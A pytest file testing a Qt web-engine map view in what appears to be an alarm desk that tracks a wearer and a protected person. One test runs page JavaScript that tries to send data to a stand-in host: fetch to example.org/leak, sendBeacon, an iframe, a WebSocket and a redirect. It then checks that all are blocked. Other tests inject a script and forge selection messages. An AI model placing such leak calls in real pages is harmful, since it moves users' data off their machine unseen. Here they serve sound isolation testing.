"""The map on the real web engine: it draws what it is told, tells what is clicked, and nothing leaves the machine."""

import json
import math
import time
from collections.abc import Callable
from dataclasses import replace

import builders
import map_scenes
import pytest
from desk_at_hand import DeskAtHand
from map_scenes import PROTECTED, WEARER, asked, case_row, frame, shown_map
from PySide6.QtCore import QPoint, QPointF, Qt
from PySide6.QtGui import QColor, QMouseEvent
from PySide6.QtWidgets import QApplication, QWidget
from pytestqt.qtbot import QtBot

from backend_bridge.application.rows import AlarmState
from backend_bridge.domain.identifiers import CaseId, DeviceId
from backend_bridge.domain.quantities import LatLon
from widgets import formats
from widgets.map.map_view import MapView

map_scenes.prepare()
Open = Callable[..., DeskAtHand]


@pytest.fixture
def view(qtbot: QtBot) -> MapView:
    """A map on screen."""
    return shown_map(qtbot)


def rendered(qtbot: QtBot, view: MapView, number: int) -> None:
    """Wait until the page says that it has drawn frame `number`."""
    qtbot.waitUntil(lambda: view.rendered_frame >= number, timeout=30_000)


def middle(view: MapView) -> QPoint:
    """The middle of the map on screen."""
    return QPoint(view.width() // 2, view.height() // 2)


def double_click(target: QWidget, at: QPoint) -> None:
    """Two clicks 80 ms apart; the web engine counts clicks by the time of the events, which QTest sets wide apart."""
    began = int(time.monotonic() * 1000)
    kinds = (QMouseEvent.Type.MouseButtonPress, QMouseEvent.Type.MouseButtonRelease) * 2
    for step, kind in enumerate(kinds):
        held = Qt.MouseButton.LeftButton if kind is QMouseEvent.Type.MouseButtonPress else Qt.MouseButton.NoButton
        place, everywhere = QPointF(at), QPointF(target.mapToGlobal(at))
        event = QMouseEvent(kind, place, everywhere, Qt.MouseButton.LeftButton, held, Qt.KeyboardModifier.NoModifier)
        event.setTimestamp(began + 40 * step)
        QApplication.sendEvent(target, event)


def test_double_click_centres_and_comes_closer(qtbot: QtBot, view: MapView) -> None:
    """A double click on a symbol brings it to the middle, near enough to see the street."""
    view.go_to(WEARER, 14)
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    view.go_to(LatLon(lat_deg=WEARER.lat_deg, lon_deg=WEARER.lon_deg - 0.005), 14)
    spot = "JSON.stringify([bongsu.view.zoom, Math.round(bongsu.state.subjects.px[0]), Math.round(bongsu.state.subjects.py[0])])"
    qtbot.waitUntil(lambda: json.loads(str(asked(qtbot, view, spot)))[1] > view.width() // 2 + 30, timeout=5000)
    _, x, y = json.loads(str(asked(qtbot, view, spot)))
    double_click(view.life.view.focusProxy(), QPoint(x, y))
    qtbot.waitUntil(lambda: json.loads(str(asked(qtbot, view, spot)))[0] == 16, timeout=5000)
    _, x, y = json.loads(str(asked(qtbot, view, spot)))
    assert abs(x - view.width() / 2) < 4
    assert abs(y - view.height() / 2) < 4


def test_frame_is_pulled_drawn_and_reported(qtbot: QtBot, view: MapView) -> None:
    """The number and instant that the page reports are those of the frame that was shown."""
    shown = frame()
    view.show_frame(shown)
    rendered(qtbot, view, 1)
    assert view.last_rendered_us == shown.at_us
    assert asked(qtbot, view, "bongsu.state.subjects.n") == 2


def test_page_runs_without_complaints(qtbot: QtBot, view: MapView) -> None:
    """Cases, frames, tracks, languages and themes go through the page's scripts without an error on its console."""
    view.show_cases((case_row(),))
    view.select_case(CaseId("KR-SE-0000"))
    view.show_tracks((map_scenes.track("ANK-0000"),))
    view.set_theme("day")
    view.set_language("en")
    view.set_frame("exercise")
    view.show_frame(frame(level=[4, 1], fresh=[0, 2]))
    rendered(qtbot, view, 1)
    assert list(view.life.page.console) == []


def test_one_broken_message_does_not_hold_up_the_next(qtbot: QtBot, view: MapView) -> None:
    """What the page cannot take is told and passed over; cases and frames after it arrive."""
    view.life.server.state.put("sources", {"number": "x"})
    view.show_cases((case_row(),))
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    assert asked(qtbot, view, "bongsu.state.cases.all.size") == 1
    assert any("sources" in line for line in view.life.page.console)


def test_busy_page_skips_to_the_newest_frame(qtbot: QtBot, view: MapView) -> None:
    """Frames are not queued: whoever is slow sees the newest, not the backlog."""
    for step in range(50):
        view.show_frame(frame(at_us=map_scenes.AT_US + step * 200_000))
    rendered(qtbot, view, 50)
    assert asked(qtbot, view, "bongsu.state.subjects.atUs") == map_scenes.AT_US + 49 * 200_000


def test_people_who_come_and_go_never_hold_the_picture_up(qtbot: QtBot, view: MapView) -> None:
    """The list of devices may change with every frame, faster than the page draws; it always ends with the newest."""
    for step in range(60):
        people = [WEARER, PROTECTED, *([WEARER] * (step % 7))]
        view.show_frame(frame(people, at_us=map_scenes.AT_US + step * 200_000))
        if step % 3 == 0:
            qtbot.wait(5)
    rendered(qtbot, view, 60)
    assert asked(qtbot, view, "bongsu.state.subjects.n") == 2 + 59 % 7


def test_nothing_leaves_the_machine(qtbot: QtBot, view: MapView) -> None:
    """Whatever the page tries, only its private scheme is asked for anything."""
    view.show_cases((case_row(),))
    view.go_to(LatLon(lat_deg=37.55, lon_deg=127.0), 12)
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    tried = """
      const img = new Image(); img.src = 'https://tile.openstreetmap.org/1/1/1.png';
      fetch('https://example.org/leak').catch(() => {});
      navigator.sendBeacon('https://example.org/beacon', 'x');
      const frame = document.createElement('iframe'); frame.src = 'https://example.org/frame'; document.body.append(frame);
      window.open('https://example.org/popup'); location.href = 'https://example.org/away';
      new WebSocket('wss://example.org/socket'); 1
    """
    asked(qtbot, view, f"try {{ {tried} }} catch (error) {{ 0 }}")
    qtbot.wait(600)
    assert view.life.interceptor.allowed > 20
    assert all(not refused.startswith("app:") for refused in view.life.interceptor.refused)
    assert view.life.page.url().toString() == "app://map/page.html"
    assert asked(qtbot, view, "bongsu.state.subjects.n") == 2


def test_page_has_no_storage_and_no_inline_script(qtbot: QtBot, view: MapView) -> None:
    """Local storage is off, and text that slips into the page is never run."""
    assert asked(qtbot, view, "(() => { try { return String(window.localStorage); } catch (e) { return 'none'; } })()") in ("none", "null")
    asked(qtbot, view, "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); 1")
    assert asked(qtbot, view, "String(window.ran)") == "undefined"


def test_click_on_a_symbol_selects_and_on_bare_ground_lets_go(qtbot: QtBot, view: MapView) -> None:
    """Real mouse events on the real page; the symbol under the pointer is named, bare ground is None."""
    chosen: list[DeviceId | None] = []
    view.on_selected = chosen.append
    view.show_cases((case_row(),))
    view.go_to(WEARER, 16)
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    target = view.life.view.focusProxy()
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=middle(view))
    qtbot.waitUntil(lambda: chosen == ["ANK-0000"], timeout=5000)
    view.select_case(CaseId("KR-SE-0000"))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.selected.size") == 2, timeout=5000)
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(60, view.height() - 90))
    qtbot.waitUntil(lambda: chosen == ["ANK-0000", None], timeout=5000)


def test_context_menu_names_the_place(qtbot: QtBot, view: MapView) -> None:
    """A right click tells where it was, to within a few metres."""
    places: list[LatLon] = []
    view.on_context = places.append
    view.go_to(WEARER, 16)
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.view.zoom") == 16, timeout=5000)
    qtbot.mouseClick(view.life.view.focusProxy(), Qt.MouseButton.RightButton, pos=middle(view))
    qtbot.waitUntil(lambda: bool(places), timeout=5000)
    assert abs(places[0].lat_deg - WEARER.lat_deg) < 1e-4
    assert abs(places[0].lon_deg - WEARER.lon_deg) < 1e-4


def test_the_name_of_the_frame_leaves_the_search_field_free_and_both_colours_are_there(qtbot: QtBot, view: MapView) -> None:
    """On a narrow map the name stands at the left; the recording of an exercise is in the colours of both."""
    view.set_frame("exercise-replay")
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.frame") == "exercise-replay", timeout=5000)
    box = "(id) => document.getElementById(id).getBoundingClientRect()"
    low = asked(qtbot, view, f"({box})('frame-name').bottom <= ({box})('search').top && !document.getElementById('search').hidden")
    assert low is True
    name = "getComputedStyle(document.getElementById('frame-name')).backgroundImage"
    drawn = f"getComputedStyle(document.body, '::after').borderImageSource + {name}"
    said = str(asked(qtbot, view, drawn))
    assert said.count("rgb(42, 111, 151)") >= 2
    assert said.count("rgb(122, 92, 255)") >= 2
    view.set_frame("exercise")
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.frame") == "exercise", timeout=5000)
    assert "rgb(42, 111, 151)" not in str(asked(qtbot, view, drawn))


def test_dragging_moves_the_map(qtbot: QtBot, view: MapView) -> None:
    """Pressing, moving and letting go shifts the middle by as many pixels."""
    view.go_to(WEARER, 14)
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.view.zoom") == 14, timeout=5000)
    before = asked(qtbot, view, "bongsu.view.left")
    target, start = view.life.view.focusProxy(), middle(view)
    qtbot.mousePress(target, Qt.MouseButton.LeftButton, pos=start)
    for step in range(1, 11):
        qtbot.mouseMove(target, start - QPoint(step * 10, 0))
        qtbot.wait(20)
    qtbot.wait(150)
    qtbot.mouseRelease(target, Qt.MouseButton.LeftButton, pos=start - QPoint(100, 0))
    after = asked(qtbot, view, "bongsu.view.left")
    assert 80 < float(str(after)) - float(str(before)) < 120


def test_cases_come_change_and_go(qtbot: QtBot, view: MapView) -> None:
    """The page holds the cases that were shown last, as they were shown last."""
    view.show_cases(tuple(case_row(n) for n in range(600)))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.cases.all.size") == 600, timeout=30_000)
    view.show_cases((case_row(0, zone_m=321),))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.cases.all.size") == 1, timeout=30_000)
    assert asked(qtbot, view, "bongsu.state.cases.all.get('KR-SE-0000').zones[0].circle[2]") == 321


def test_selected_case_brings_both_tracks(qtbot: QtBot, view: MapView) -> None:
    """A day of fixes of both arrives as arrays and is coloured by speed."""
    view.show_cases((case_row(),))
    view.show_frame(frame())
    view.select_case(CaseId("KR-SE-0000"))
    view.show_tracks((map_scenes.track("ANK-0000", 8640), map_scenes.track("VIC-0000", 8640)))
    qtbot.waitUntil(
        lambda: asked(qtbot, view, "bongsu.state.trails.tracks.map(t => t.n + '/' + t.part).join()") == "8640/0,8640/1", timeout=30_000
    )


def test_moment_of_a_chart_is_marked_at_a_measured_fix(qtbot: QtBot, view: MapView) -> None:
    """The crosshair's instant is shown where a fix was measured, with its time; in a gap nothing is invented."""
    view.show_cases((case_row(),))
    view.select_case(CaseId("KR-SE-0000"))
    view.show_tracks((map_scenes.track("ANK-0000", 100),))
    view.go_to(WEARER, 16)
    view.show_moment(map_scenes.AT_US - 3_000_000)
    fixed = "bongsu.marks.fixed.length"
    qtbot.waitUntil(lambda: asked(qtbot, view, f"bongsu.state.trails.tracks.length * {fixed}") == 2, timeout=5000)
    view.show_moment(map_scenes.AT_US - 5_000_000_000)
    qtbot.waitUntil(lambda: asked(qtbot, view, fixed) == 1, timeout=5000)


def test_fitting_a_case_waits_for_its_people(qtbot: QtBot, view: MapView) -> None:
    """Before the first frame its zones are shown, and both people as soon as they are seen."""
    view.show_cases((case_row(zone_m=3000),))
    view.fit_case(CaseId("KR-SE-0000"))
    qtbot.waitUntil(lambda: float(str(asked(qtbot, view, "bongsu.view.zoom"))) < 13.5, timeout=5000)
    view.show_frame(frame())
    qtbot.waitUntil(lambda: float(str(asked(qtbot, view, "bongsu.view.zoom"))) > 14.5, timeout=5000)
    assert asked(qtbot, view, "bongsu.state.subjects.shown[0] + bongsu.state.subjects.shown[1]") == 2


def test_motion_between_frames_ends_where_the_frame_says(qtbot: QtBot, view: MapView) -> None:
    """Symbols glide to the new position and no farther; one that was lost is not drawn on a way that nobody saw."""
    of = "bongsu.state.subjects"
    place = f"JSON.stringify([({of}.worldOf(0, performance.now())[0] - 0.5) * 360, {of}.progress(performance.now())])"
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    east = LatLon(lat_deg=WEARER.lat_deg, lon_deg=WEARER.lon_deg + 0.0005)
    view.show_frame(frame((east, PROTECTED)))
    rendered(qtbot, view, 2)
    qtbot.waitUntil(lambda: json.loads(str(asked(qtbot, view, place)))[1] == 1, timeout=3000)
    assert abs(json.loads(str(asked(qtbot, view, place)))[0] - east.lon_deg) < 1e-9
    far = LatLon(lat_deg=WEARER.lat_deg, lon_deg=WEARER.lon_deg + 0.05)
    view.show_frame(frame((far, PROTECTED)))
    qtbot.waitUntil(lambda: view.rendered_frame >= 3, timeout=5000)
    assert asked(qtbot, view, "bongsu.state.subjects.fromX[0] === bongsu.state.subjects.toX[0]") is True


def test_unacknowledged_red_flashes_and_nothing_else(qtbot: QtBot, view: MapView) -> None:
    """The page is told whom nobody has acknowledged; acknowledged alarms are not among them."""
    view.show_frame(frame(level=[2, 0]))
    view.show_alarms((builders.alarm(0), builders.alarm(0, device="VIC-0000", state=AlarmState.ACKNOWLEDGED)))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.unacknowledged.join()") == "ANK-0000", timeout=5000)
    view.show_alarms(())
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.unacknowledged.join()") == "", timeout=5000)


def test_case_chosen_elsewhere_is_brought_on_screen(qtbot: QtBot, view: MapView) -> None:
    """Whoever presses Enter in the alarm list sees both people, wherever the map was; a case in view moves nothing."""
    view.show_cases((case_row(),))
    view.go_to(LatLon(lat_deg=35.1, lon_deg=129.0), 14)
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    view.select_case(CaseId("KR-SE-0000"))
    seen = "bongsu.interaction.wholeInView('KR-SE-0000') && bongsu.state.selected.size === 2"
    qtbot.waitUntil(lambda: asked(qtbot, view, seen) is True, timeout=5000)
    zoom = asked(qtbot, view, "bongsu.view.zoom")
    view.select_case(None)
    view.select_case(CaseId("KR-SE-0000"))
    qtbot.wait(200)
    assert asked(qtbot, view, "bongsu.view.zoom") == zoom


def test_followed_person_stays_in_the_middle_until_the_map_is_sent_elsewhere(qtbot: QtBot, view: MapView) -> None:
    """Following moves the map with the person; going to a place lets go."""
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    view.follow(DeviceId("ANK-0000"))
    centred = "Math.hypot(bongsu.state.subjects.px[0] - bongsu.view.width / 2, bongsu.state.subjects.py[0] - bongsu.view.height / 2) < 3"
    qtbot.waitUntil(lambda: asked(qtbot, view, centred) is True, timeout=5000)
    for step in range(1, 6):
        view.show_frame(frame((LatLon(lat_deg=WEARER.lat_deg, lon_deg=WEARER.lon_deg + step * 0.0004), PROTECTED)))
        rendered(qtbot, view, 1 + step)
    qtbot.waitUntil(lambda: asked(qtbot, view, centred) is True, timeout=5000)
    view.go_to(PROTECTED, 16)
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.follow === null && bongsu.view.zoom === 16") is True, timeout=5000)


def test_distance_is_measured_by_clicks_and_ends_with_a_double_click(qtbot: QtBot, view: MapView) -> None:
    """Three hundred pixels at a known zoom are as many metres as the scale says; clicks select again afterwards."""
    view.go_to(WEARER, 16)
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.view.zoom") == 16, timeout=5000)
    asked(qtbot, view, "document.getElementById('tool-measure').click(); 1")
    target = view.life.view.focusProxy()
    qtbot.mouseClick(target, Qt.MouseButton.LeftButton, pos=QPoint(200, 250))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.measure.length") == 1, timeout=5000)
    qtbot.wait(600)  # apart from the next, or both are a double click
    double_click(target, QPoint(500, 250))
    qtbot.waitUntil(lambda: asked(qtbot, view, "bongsu.state.measuring") is False, timeout=5000)
    ends = "bongsu.state.measure[0].concat(bongsu.state.measure[bongsu.state.measure.length - 1]).join()"
    lat0, lon0, lat1, lon1 = (float(part) for part in str(asked(qtbot, view, ends)).split(","))
    metres = math.hypot((lat1 - lat0) * 111_195, (lon1 - lon0) * 111_195 * math.cos(math.radians(lat0)))
    assert metres == pytest.approx(300 / float(str(asked(qtbot, view, "bongsu.view.pixels(1)"))), rel=0.01)


def test_limits_are_written_as_in_the_lists(qtbot: QtBot, view: MapView) -> None:
    view.show_cases((case_row(),))
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    written = json.loads(str(asked(qtbot, view, "JSON.stringify([40, 200, 1000, 1600, 24300].map((m) => bongsu.state.words.limit(m)))")))
    assert written == [formats.distance(m) for m in (40, 200, 1000, 1600, 24_300)]


def test_wall_names_nobody(qtbot: QtBot, view: MapView) -> None:
    """On a video wall symbols carry ages, not ids."""
    view.show_cases((case_row(),))
    view.show_identities(shown=False)
    view.go_to(WEARER, 17)
    view.show_frame(frame(level=[2, 0]))
    rendered(qtbot, view, 1)
    words = json.loads(str(asked(qtbot, view, "JSON.stringify(bongsu.symbolWords().map(w => w.text))")))
    assert words
    assert not any("S-" in word or "ANK" in word for word in words)


def test_alarm_is_drawn_in_the_colour_of_act(qtbot: QtBot, view: MapView) -> None:
    """In the picture that the window shows, the red wearer stands in the middle; a normal one leaves no red there."""
    tokens = json.loads(map_scenes.resources_text("theme/tokens.json"))
    view.go_to(WEARER, 16)
    view.show_frame(frame(level=[2, 0]))
    rendered(qtbot, view, 1)
    qtbot.waitUntil(lambda: _share(view, tokens["night"]["act"]) > 40, timeout=8000)
    view.show_frame(frame(level=[0, 0]))
    rendered(qtbot, view, 2)
    qtbot.waitUntil(lambda: _share(view, tokens["night"]["act"]) == 0, timeout=8000)


def _share(view: MapView, colour: str) -> int:
    """How many pixels within 14 of the middle are nearly of a colour."""
    image, wanted, centre = view.grab().toImage(), QColor(colour), middle(view)
    near = (image.pixelColor(centre.x() + dx, centre.y() + dy) for dx in range(-14, 15) for dy in range(-14, 15))
    return sum(abs(c.red() - wanted.red()) + abs(c.green() - wanted.green()) + abs(c.blue() - wanted.blue()) < 30 for c in near)


@pytest.mark.parametrize(("theme", "language", "name"), [("night", "ko", "이화여대길"), ("day", "en", "Ewhayeodae-gil")])
def test_streets_of_sinchon_are_named_in_the_language_of_the_desk(
    qtbot: QtBot, view: MapView, theme: str, language: str, name: str
) -> None:
    """Close in, street names stand on the map, and no two names touch."""
    view.set_theme(theme)
    view.set_language(language)
    view.go_to(PROTECTED, 16.5)
    script = "JSON.stringify(bongsu.labels.placed.map(p => p.id.split('|')[0]))"
    qtbot.waitUntil(lambda: name in json.loads(str(asked(qtbot, view, script))), timeout=30_000)
    boxes = json.loads(
        str(
            asked(
                qtbot, view, "JSON.stringify(bongsu.labels.placed.map(p => [bongsu.view.x(p.x), bongsu.view.y(p.y), p.sprite.textWidth]))"
            )
        )
    )
    assert len(boxes) > 8


def test_unknown_names_from_the_page_are_not_believed(qtbot: QtBot, view: MapView) -> None:
    """A page that claims to have selected a device nobody showed it is not listened to."""
    chosen: list[DeviceId | None] = []
    view.on_selected = chosen.append
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    for said in ("'selected', {device: 'EVIL'}", "'context', {lat: 'x', lon: 1}", "'selected', {device: 'VIC-0000'}"):
        asked(qtbot, view, f"bongsu.channel.tell({said}); 1")
    qtbot.waitUntil(lambda: bool(chosen), timeout=5000)
    assert chosen == ["VIC-0000"]


def test_second_map_shows_the_same_people_in_its_own_place_and_names_nobody(qtbot: QtBot, view: MapView) -> None:
    """A mirror has what was shown before it was opened and what is shown after; its view and the main map's are their own."""
    chosen: list[DeviceId | None] = []
    view.on_selected = chosen.append
    view.show_cases((case_row(),))
    view.show_frame(frame())
    rendered(qtbot, view, 1)
    view.go_to(WEARER, 17)
    mirror = view.open_mirror(identities=False)
    mirror.resize(600, 400)
    mirror.show()
    qtbot.waitUntil(lambda: mirror.rendered_frame == 1, timeout=20_000)
    mirror.go_to(WEARER, 15.5)
    view.show_cases((case_row(), case_row(1)))
    view.show_frame(frame(level=[2, 0]))
    qtbot.waitUntil(lambda: mirror.rendered_frame == 2, timeout=30_000)
    words = json.loads(str(asked(qtbot, mirror, "JSON.stringify([bongsu.symbolWords().map(w => w.text), bongsu.state.cases.all.size])")))
    assert words[1] == 2
    assert words[0]
    assert not any("S-" in word for word in words[0])
    assert asked(qtbot, mirror, "bongsu.view.zoom") != asked(qtbot, view, "bongsu.view.zoom")
    asked(qtbot, mirror, "bongsu.channel.tell('selected', {device: 'VIC-0000'}); 1")
    qtbot.waitUntil(lambda: chosen == ["VIC-0000"], timeout=5000)
    mirror.fit_everybody()
    in_view = "[...bongsu.state.subjects.slotOfRow].every(s => bongsu.state.subjects.shown[s])"
    qtbot.waitUntil(lambda: asked(qtbot, mirror, in_view) is True, timeout=10_000)
    mirror.close()
    view.show_frame(frame())
    rendered(qtbot, view, 3)


def test_the_distance_between_the_two_hides_no_unit(open_desk: Open, qtbot: QtBot) -> None:
    """A unit that stands in the very middle between them is seen, and the words stand beside it."""
    desk = open_desk("en")
    desk.fill()
    desk.panels.alarms.choose(builders.alarm(142).alarm)
    between = LatLon(lat_deg=37.5585, lon_deg=126.9368 + 360.0 / (111_320 * math.cos(math.radians(37.56))))
    unit = replace(builders.units()[0], position=between)
    view, before = desk.panels.map, desk.panels.map.rendered_frame
    desk.take(unit)
    desk.view.take_frame(builders.frame(["ANK-0142", "VIC-0142"]))
    rendered(qtbot, view, before + 1)
    hidden = f"""(() => {{
        const m = bongsu.marks, far = m.fixed.filter(f => [...m.texts].some(([k, v]) => v === f.image && k.includes("± 14")))[0];
        if (!far || bongsu.view.target) return null;
        const unit = bongsu.state.units.find(u => u.callsign === "{unit.callsign}");
        const x = bongsu.view.x((unit.lon + 180) / 360), y = bongsu.state.subjects.py[0], [left, top] = far.at;
        return left < x + 8 && left + far.image.w > x - 8 && top < y + 8 && top + far.image.h > y - 8; }})()"""
    qtbot.waitUntil(lambda: asked(qtbot, view, hidden) is False, timeout=15_000)


def test_a_pair_that_was_seen_whole_stays_so_when_the_map_becomes_smaller(open_desk: Open, qtbot: QtBot) -> None:
    """Such as under the time bar of a recording; neither lies under the buttons or the legend, and no word lies on the protected person."""
    desk = open_desk("en")
    desk.fill()
    desk.panels.alarms.choose(builders.alarm(142).alarm)
    view, before = desk.panels.map, desk.panels.map.rendered_frame
    desk.view.take_frame(builders.frame(["ANK-0142", "VIC-0142"]))
    rendered(qtbot, view, before + 1)
    seen = "bongsu.interaction.wholeInView('KR-SE-0142') && bongsu.whole === 'KR-SE-0142' && bongsu.view.width"
    qtbot.waitUntil(lambda: bool(asked(qtbot, view, seen)), timeout=15_000)
    wide = asked(qtbot, view, seen)
    desk.window.resize(1366, 768)
    qtbot.waitUntil(lambda: 0 < (asked(qtbot, view, seen) or 0) < wide, timeout=15_000)
    on_symbol = """(() => {
        const { px, py, slotOf } = bongsu.state.subjects, slot = slotOf.get("VIC-0142"), r = 8;
        const across = (at, long, middle) => at < middle + r && at + long > middle - r;
        return bongsu.marks.fixed.some(({ image, at: [x, y] }) => across(x, image.w, px[slot]) && across(y, image.h, py[slot])); })()"""
    qtbot.waitUntil(lambda: asked(qtbot, view, on_symbol) is False, timeout=15_000)
